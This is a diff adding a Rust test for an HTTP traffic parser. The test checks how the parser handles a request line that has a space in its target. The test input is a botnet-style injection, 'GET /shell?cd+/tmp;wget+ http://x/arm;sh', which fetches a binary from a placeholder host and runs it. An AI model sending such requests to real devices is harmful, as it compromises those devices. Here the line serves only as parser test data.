@@ -625,3 +625,24 @@ fn a_request_cut_after_its_first_line_is_still_reported() {
     );
     assert_eq!(h.status_code, Some(200));
 }
+
+#[test]
+fn a_request_line_with_a_space_in_its_target_is_read_as_tshark_reads_it() {
+    let mut app = on();
+    let c = web(17);
+    app.data(
+        c,
+        Side::Orig,
+        at(0, 1),
+        b"GET /shell?cd+/tmp;wget+ http://x/arm;sh HTTP/1.1\r\nHost: h\r\nUser-Agent: bot\r\n\r\n",
+    );
+    app.close(17);
+    let out = records(&mut app);
+    let h = http(&out[0]);
+    assert_eq!(h.uri.as_deref(), Some("/shell?cd+/tmp;wget+"));
+    assert_eq!(
+        (h.version.as_deref(), h.host.as_deref()),
+        (Some("1.1"), Some("h"))
+    );
+    assert_eq!(h.user_agent.as_deref(), Some("bot"));
+}
